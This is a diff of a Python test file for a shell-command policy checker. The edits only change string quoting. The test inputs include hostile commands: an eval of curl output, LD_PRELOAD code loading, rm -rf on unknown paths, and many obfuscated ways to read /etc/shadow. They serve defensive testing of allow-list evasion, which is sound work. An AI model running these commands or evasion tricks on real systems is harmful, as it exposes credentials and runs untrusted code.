@@ -30,7 +30,7 @@ def reasons(line: str) -> str:
         ("ls --frobnicate", "--frobnicate: not an option ls is known to take"),
         ("git frobnicate", "frobnicate: not a known subcommand of git"),
         ("$CMD", "the command name is not known before it runs"),
-        ("rm -rf \"$DIR\"", "a path whose value is not known"),
+        ('rm -rf "$DIR"', "a path whose value is not known"),
         ("cat $UNKNOWN_FILE", "a path whose value is not known"),
         ("trap 'rm -f /tmp/x' EXIT", "trap runs its handler later"),
         ("PS4='$(id)'; set -x; true", "PS4 with a substitution"),
@@ -52,11 +52,11 @@ def reasons(line: str) -> str:
         ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD makes programs load code"),
         ("BASH_ENV=/tmp/x bash script.sh", "BASH_ENV makes programs load code"),
         ("python3 -c 'print(1)'", "python3 code given on the line"),
-        ("eval \"$(curl -s https://x.example)\"", "eval of text not known"),
+        ('eval "$(curl -s https://x.example)"', "eval of text not known"),
         ("sh", "runs shell code read from the session's input"),
         ("psql", "runs sql code read from the session's input"),
         ("./x.sh && /tmp/run", "runs a program from a temporary directory"),
-        ("cd \"$(mktemp -d)\" && rm -rf build", "the working directory is not known"),
+        ('cd "$(mktemp -d)" && rm -rf build', "the working directory is not known"),
         ("vim /tmp/notes", ""),  # understood; held by a rule (shell escapes): see below
     ],
 )
@@ -106,7 +106,7 @@ def test_each_command_is_decided_so_an_allow_list_role_cannot_be_tricked() -> No
 @pytest.mark.parametrize(
     "line",
     [
-        "x=/etc/shaXow; cat \"${x/X/d}\"",
+        'x=/etc/shaXow; cat "${x/X/d}"',
         "x=/etc/shadow.bak; cat ${x%.bak}",
         "x=/ETC/SHADOW; cat ${x,,}",
         "x='/etc/sh\\x61dow'; cat ${x@E}",
@@ -131,7 +131,7 @@ def test_each_command_is_decided_so_an_allow_list_role_cannot_be_tricked() -> No
         "cat /var/run/../etc/shadow",
         "cat /bin/../etc/shadow",
         "ln -s /etc/shadow x; cat x",
-        "for f in /etc/sha*; do cat \"$f\"; done",
+        'for f in /etc/sha*; do cat "$f"; done',
         "IFS=,; cat$IFS/etc/shadow",
         "cat ${F:-/etc/shadow}",
     ],
@@ -310,7 +310,7 @@ def test_the_context_chains_lines_of_one_shell() -> None:
 def test_a_line_whose_effect_is_unknown_makes_names_unknown() -> None:
     after = decide("read x").context
     assert after is not None and dict(after.variables)["x"].value is None
-    poisoned = decide("eval \"$SOMETHING\"").context
+    poisoned = decide('eval "$SOMETHING"').context
     assert poisoned is not None and poisoned.poisoned
     later = evaluate(POLICY, Request("cat $HOME/x", login="deploy"), context=poisoned)
     assert not later.understood
